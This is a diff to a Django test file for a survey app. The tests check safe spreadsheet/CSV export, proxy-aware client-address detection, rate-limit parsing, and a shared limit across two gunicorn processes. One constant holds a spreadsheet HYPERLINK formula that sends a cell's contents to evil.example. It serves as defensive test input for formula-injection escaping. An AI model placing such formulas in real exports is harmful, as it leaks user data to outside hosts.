@@ -2,7 +2,16 @@
 shared by every process, no session rows for anonymous visitors, production headers, backups."""
 
 import io
+import os
 import re
+import secrets
+import socket
+import sqlite3
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
 from pathlib import Path
 
 import pytest
@@ -10,7 +19,8 @@ from openpyxl import load_workbook
 
 from chiso.core.safe_cells import csv_row, csv_value, csv_writer, formulas_as_text, is_formula_like, xlsx_row
 
-SRC = Path(__file__).resolve().parents[2] / "src" / "chiso"
+ROOT = Path(__file__).resolve().parents[2]
+SRC = ROOT / "src" / "chiso"
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
 
@@ -115,3 +125,164 @@ def test_the_xlsform_download_writes_a_label_starting_with_equals_as_text(blocks
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     assert LEAK in {c.value for c in cells if c.data_type == "s"}
+
+
+# --- limits: one count for every process, the address read behind trusted proxies only -----------
+
+from django.test import Client, RequestFactory  # noqa: E402
+
+from chiso.core import ratelimit  # noqa: E402
+from tests.surveys.conftest import ddci_version, departments, make_survey  # noqa: E402,F401 (fixtures)
+
+
+def _request(remote="203.0.113.5", forwarded=None):
+    extra = {"REMOTE_ADDR": remote}
+    if forwarded is not None:
+        extra["HTTP_X_FORWARDED_FOR"] = forwarded
+    return RequestFactory().get("/", **extra)
+
+
+def test_forwarded_for_counts_only_behind_the_configured_proxies(settings):
+    settings.CHISO_TRUSTED_PROXIES = 0
+    assert ratelimit.client_address(_request(forwarded="198.51.100.1")) == "203.0.113.5"  # no proxy: ignored
+    settings.CHISO_TRUSTED_PROXIES = 1
+    # nginx appends what it saw; whatever the client wrote lies to the left and is not read
+    assert ratelimit.client_address(_request("10.0.0.2", "1.2.3.4, 198.51.100.1")) == "198.51.100.1"
+    assert ratelimit.client_address(_request("10.0.0.2")) == "10.0.0.2"
+    assert ratelimit.client_address(_request("10.0.0.2", "not-an-address")) == "10.0.0.2"
+    settings.CHISO_TRUSTED_PROXIES = 2
+    assert ratelimit.client_address(_request("10.0.0.3", "1.2.3.4, 198.51.100.1, 10.0.0.2")) == "198.51.100.1"
+
+
+def test_ipv6_addresses_count_per_network_of_64():
+    first = ratelimit.client_address(_request("2001:db8:1:2::1"))
+    assert first == ratelimit.client_address(_request("2001:db8:1:2:ffff::9")) == "2001:db8:1:2::/64"
+    assert ratelimit.client_address(_request("::ffff:203.0.113.5")) == "203.0.113.5"
+
+
+def test_rates_are_read_as_the_readme_writes_them():
+    assert ratelimit.parse_rate("120/m") == (120, 60)
+    assert ratelimit.parse_rate("30/h") == (30, 3600) and ratelimit.parse_rate("30/5m") == (30, 300)
+    with pytest.raises(ValueError):
+        ratelimit.parse_rate("120 per minute")
+
+
+@pytest.mark.django_db
+def test_a_made_up_forwarded_for_does_not_buy_a_fresh_api_limit(settings):
+    settings.CHISO_API_ANON_RATE = "5/m"
+    settings.CHISO_TRUSTED_PROXIES = 0
+    client = Client(REMOTE_ADDR="203.0.113.50")
+    codes = [client.get("/api/v1/periods", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}").status_code for i in range(20)]
+    assert codes == [200] * 5 + [429] * 15
+    settings.CHISO_TRUSTED_PROXIES = 1  # behind one proxy, the proxy's own entry (the last) counts
+    proxy = Client(REMOTE_ADDR="10.0.0.2")
+    codes = [proxy.get("/api/v1/periods", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}, 203.0.113.60").status_code for i in range(8)]
+    assert codes == [200] * 5 + [429] * 3
+
+
+@pytest.mark.django_db
+def test_a_cache_that_cannot_be_reached_refuses_nobody(settings, monkeypatch, caplog):
+    def broken(*args, **kwargs):
+        raise ConnectionError("no cache server")
+
+    monkeypatch.setattr(ratelimit.cache, "add", broken)
+    assert ratelimit.hit("test", "x", [(0, 60)]) is False
+    assert "cannot be reached" in caplog.text
+
+
+@pytest.mark.django_db
+def test_open_links_start_a_limited_number_of_drafts_per_address(settings, make_survey, ddci_version, departments):
+    from chiso.surveys.models import Draft
+
+    settings.CHISO_SURVEY_OPEN_RATE = "3/h"
+    survey = make_survey(ddci_version, open_link=True)
+    codes = [Client(REMOTE_ADDR="203.0.113.70").get(f"/s/open/{survey.open_key}/").status_code for _ in range(6)]
+    assert codes == [302] * 3 + [429] * 3 and Draft.objects.filter(survey=survey).count() == 3
+    refused = Client(REMOTE_ADDR="203.0.113.70").get(f"/s/open/{survey.open_key}/")
+    assert "Có quá nhiều phiếu mới" in refused.content.decode()
+    returning = Client(REMOTE_ADDR="203.0.113.71")
+    returning.get(f"/s/open/{survey.open_key}/")
+    assert all(returning.get(f"/s/open/{survey.open_key}/").status_code == 302 for _ in range(5))  # its own draft again
+    assert Draft.objects.filter(survey=survey).count() == 4
+
+
+# Two server processes (gunicorn, as in production) against one cache: the file cache of the
+# embedded default, and Redis when one answers (CHISO_CACHE_URL, or 127.0.0.1:6379; .ci/run starts one).
+REDIS_URL = os.environ.get("CHISO_CACHE_URL", "") if os.environ.get("CHISO_CACHE_URL", "").startswith("redis") else "redis://127.0.0.1:6379/15"
+
+
+def _redis_answers(url: str) -> bool:
+    try:
+        import redis
+
+        return bool(redis.Redis.from_url(url, socket_connect_timeout=1).ping())
+    except Exception:  # noqa: BLE001 — no server, no package: the Redis case is skipped
+        return False
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _database_for_other_processes(tmp_path) -> str:
+    """A DATABASE_URL other processes can open: the test database itself on PostgreSQL, a copy
+    of the (in-memory) test database on SQLite."""
+    from django.db import connection
+
+    if connection.vendor == "sqlite":
+        connection.ensure_connection()
+        target = sqlite3.connect(tmp_path / "copy.sqlite3")
+        connection.connection.backup(target)
+        target.close()
+        return f"sqlite:///{tmp_path / 'copy.sqlite3'}"
+    settings_dict = connection.settings_dict
+    return (f"postgres://{settings_dict['USER']}:{settings_dict['PASSWORD']}@{settings_dict['HOST'] or '127.0.0.1'}:"
+            f"{settings_dict['PORT'] or 5432}/{settings_dict['NAME']}")
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize("kind", ["file", "redis"])
+def test_two_server_processes_share_one_limit(kind, tmp_path):
+    if kind == "redis" and not _redis_answers(REDIS_URL):
+        pytest.skip("no Redis answers at " + REDIS_URL)
+    cache_url = REDIS_URL if kind == "redis" else f"file://{tmp_path / 'cache'}"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("CHISO_", "PYTEST", "DATABASE_URL"))}
+    env.update(
+        PYTHONPATH=str(ROOT / "src"), CHISO_SECRET_KEY=secrets.token_urlsafe(40), CHISO_DEBUG="1",
+        CHISO_VAR_DIR=str(tmp_path / "var"), DATABASE_URL=_database_for_other_processes(tmp_path),
+        CHISO_CACHE_URL=cache_url, CHISO_API_ANON_RATE="6/m", CHISO_LOG_LEVEL="ERROR",
+    )
+    ports = [_free_port(), _free_port()]
+    servers = [
+        subprocess.Popen([str(Path(sys.executable).parent / "gunicorn"), "chiso.wsgi", "--bind", f"127.0.0.1:{port}", "--workers", "1"],
+                         env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        for port in ports
+    ]
+    try:
+        for port in ports:
+            _wait_for(port)
+        codes = []
+        for i in range(12):  # alternately to each process
+            try:
+                with urllib.request.urlopen(f"http://127.0.0.1:{ports[i % 2]}/api/v1/periods", timeout=30) as answer:
+                    codes.append(answer.status)
+            except urllib.error.HTTPError as error:
+                codes.append(error.code)
+        assert codes == [200] * 6 + [429] * 6  # one limit of 6, not 6 per process
+    finally:
+        for server in servers:
+            server.terminate()
+            server.wait(timeout=30)
+
+
+def _wait_for(port: int) -> None:
+    deadline = time.monotonic() + 120
+    while time.monotonic() < deadline:
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=1):
+                return
+        except OSError:
+            time.sleep(0.3)
+    raise AssertionError(f"no server on port {port}")
